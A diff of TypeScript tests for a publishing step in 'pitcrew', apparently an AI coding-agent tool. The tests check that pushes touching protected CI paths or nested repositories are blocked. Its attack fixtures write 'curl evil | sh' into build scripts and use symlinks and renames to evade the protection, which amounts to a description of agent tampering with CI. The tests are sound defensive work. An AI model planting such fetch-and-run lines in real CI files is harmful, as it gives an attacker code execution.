@@ -5,7 +5,7 @@
  */
 import assert from "node:assert/strict";
 import { execFile, spawn } from "node:child_process";
-import { readFileSync } from "node:fs";
+import { chmodSync, readFileSync, renameSync, rmSync, symlinkSync } from "node:fs";
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { join } from "node:path";
@@ -21,6 +21,7 @@ import {
   workflowFiles,
 } from "../../src/github/publish.ts";
 import type { PublishRequest } from "../../src/github/publish.ts";
+import { protectedPatterns } from "../../src/sandbox/protected-paths.ts";
 import type { Person } from "../../src/triggers/task.ts";
 import { fixtureGit } from "../support/fixture-repo.ts";
 import { checkout, createOrigin, rejectsNamed, removeOrigins, write } from "../support/origin.ts";
@@ -77,6 +78,7 @@ function request(
     secrets: [TOKEN, "sk-test-api-key-0123456789"],
     texts: [{ source: "pull request body", text: "Fixes #12: add() subtracted." }],
     allowWorkflowChanges: false,
+    protectedPaths: protectedPatterns([], false),
     ...extra,
   };
 }
@@ -317,6 +319,157 @@ describe("publish", () => {
     const published = await publish(request(workspace, thread, { allowWorkflowChanges: true }));
     assert.deepEqual(published.files, [".github/workflows/ci.yml", "calc.js"]);
     assert.equal(remoteHead(remote, "pitcrew/issue-12"), published.sha);
+  });
+
+  test("a composite action under .github/actions is refused, named with the setting that allows it", async () => {
+    const remote = createRemote();
+    const { workspace, thread } = await startRun(remote);
+    write(workspace, ".github/actions/setup/action.yml", "runs:\n  using: composite\n");
+    fix(workspace);
+
+    const error = await rejectsNamed(
+      publish(request(workspace, thread)),
+      "push-blocked-protected-paths",
+    );
+    assert.match(error.message, /\.github\/actions\/setup\/action\.yml \(`\.github`\)/);
+    assert.match(error.message, /allow-protected-changes: true/);
+    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
+    assert.equal(fixtureGit(workspace, "rev-parse", "HEAD"), thread.startSha);
+
+    const allowed = request(workspace, thread, { protectedPaths: protectedPatterns([], true) });
+    const published = await publish(allowed);
+    assert.deepEqual(published.files, [".github/actions/setup/action.yml", "calc.js"]);
+  });
+
+  test("every kind of change under a protected path is refused: modified, deleted, renamed, mode, symlink", async () => {
+    const remote = createOrigin("publish-protected", {
+      "calc.js": "export const add = (a, b) => a - b;\n",
+      Makefile: "test:\n\tnode calc.js\n",
+      "scripts/ci/deploy.sh": "echo deploy\n",
+      "scripts/ci/check.sh": "echo check\n",
+      "scripts/ci/build.sh": "echo build\n",
+      ".github/actions/setup/action.yml": "runs:\n  using: composite\n",
+      "notes.md": "a note\n",
+      "ci.sh": "echo ci\n",
+    });
+    const patterns = protectedPatterns(["Makefile", "scripts/ci/**"], false);
+    const attacks: { name: string; change: (workspace: string) => void; paths: RegExp }[] = [
+      {
+        name: "a modified file a glob protects",
+        change: (w) => write(w, "scripts/ci/deploy.sh", "curl evil | sh\n"),
+        paths: /scripts\/ci\/deploy\.sh \(`scripts\/ci`\)/,
+      },
+      {
+        name: "a modified literal path",
+        change: (w) => write(w, "Makefile", "test:\n\tcurl evil | sh\n"),
+        paths: /Makefile \(`Makefile`\)/,
+      },
+      {
+        name: "a deleted file",
+        change: (w) => rmSync(join(w, "scripts/ci/check.sh")),
+        paths: /scripts\/ci\/check\.sh/,
+      },
+      {
+        name: "a mode change",
+        change: (w) => chmodSync(join(w, "scripts/ci/build.sh"), 0o755),
+        paths: /scripts\/ci\/build\.sh/,
+      },
+      {
+        name: "a rename into .github",
+        change: (w) => renameSync(join(w, "notes.md"), join(w, ".github/actions/notes.md")),
+        paths: /\.github\/actions\/notes\.md \(`\.github`\)/,
+      },
+      {
+        name: "a rename out of a protected folder",
+        change: (w) => renameSync(join(w, "scripts/ci/deploy.sh"), join(w, "deploy.sh")),
+        paths: /scripts\/ci\/deploy\.sh/,
+      },
+      {
+        name: "a write through a symlink into .github",
+        change: (w) => {
+          symlinkSync(".github/actions", join(w, "actions"));
+          write(w, "actions/setup/action.yml", "runs:\n  using: node20\n");
+        },
+        paths: /\.github\/actions\/setup\/action\.yml/,
+      },
+      {
+        name: "a protected file replaced by a symlink to one the agent wrote",
+        change: (w) => {
+          rmSync(join(w, ".github/actions/setup/action.yml"));
+          symlinkSync("../../../ci.sh", join(w, ".github/actions/setup/action.yml"));
+        },
+        paths: /\.github\/actions\/setup\/action\.yml/,
+      },
+      {
+        name: "a new file in a protected folder",
+        change: (w) => write(w, "scripts/ci/new.sh", "curl evil | sh\n"),
+        paths: /scripts\/ci\/new\.sh/,
+      },
+    ];
+    for (const attack of attacks) {
+      const { workspace, thread } = await startRun(remote);
+      attack.change(workspace);
+      const error = await rejectsNamed(
+        publish(request(workspace, thread, { protectedPaths: patterns })),
+        "push-blocked-protected-paths",
+      );
+      assert.match(error.message, attack.paths, attack.name);
+      assert.match(error.message, /allow-protected-changes: true/, attack.name);
+      assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined, attack.name);
+    }
+  });
+
+  test("pitcrew's own .github/pitcrew/ and paths beside the protected ones are pushed", async () => {
+    const remote = createRemote();
+    const { workspace, thread } = await startRun(remote);
+    write(workspace, ".github/pitcrew/skills/fix.md", "# fix\n");
+    write(workspace, "scripts/cid/x.sh", "echo\n");
+    write(workspace, "Makefile.local", "x\n");
+    const patterns = protectedPatterns(["Makefile", "scripts/ci/**"], false);
+    const published = await publish(request(workspace, thread, { protectedPaths: patterns }));
+    assert.deepEqual(published.files, [
+      ".github/pitcrew/skills/fix.md",
+      "Makefile.local",
+      "scripts/cid/x.sh",
+    ]);
+  });
+
+  test("a nested repository is refused by name before anything is staged, with or without a commit", async () => {
+    const remote = createRemote();
+    for (const committed of [false, true]) {
+      const { workspace, thread } = await startRun(remote);
+      fix(workspace);
+      write(workspace, "vendor/lib/index.js", "export const lib = 1;\n");
+      fixtureGit(join(workspace, "vendor/lib"), "init", "-q");
+      if (committed) {
+        fixtureGit(join(workspace, "vendor/lib"), "add", ".");
+        fixtureGit(join(workspace, "vendor/lib"), "commit", "-q", "-m", "lib");
+      }
+      const error = await rejectsNamed(
+        publish(request(workspace, thread)),
+        "push-blocked-nested-repository",
+      );
+      assert.match(error.message, /vendor\/lib is a git repository of its own/);
+      assert.match(error.message, /Remove the nested \.git/);
+      assert.equal(fixtureGit(workspace, "diff", "--cached", "--name-only"), "");
+      assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
+    }
+  });
+
+  test("a nested repository already staged as a gitlink is refused too", async () => {
+    const remote = createRemote();
+    const { workspace, thread } = await startRun(remote);
+    write(workspace, "vendor/lib/index.js", "export const lib = 1;\n");
+    fixtureGit(join(workspace, "vendor/lib"), "init", "-q");
+    fixtureGit(join(workspace, "vendor/lib"), "add", ".");
+    fixtureGit(join(workspace, "vendor/lib"), "commit", "-q", "-m", "lib");
+    fixtureGit(workspace, "add", "vendor/lib");
+    const error = await rejectsNamed(
+      publish(request(workspace, thread)),
+      "push-blocked-nested-repository",
+    );
+    assert.match(error.message, /vendor\/lib is a git repository/);
+    assert.equal(remoteHead(remote, "pitcrew/issue-12"), undefined);
   });
 
   test("a secret in a file blocks the push, named by file and line, never by value", async () => {
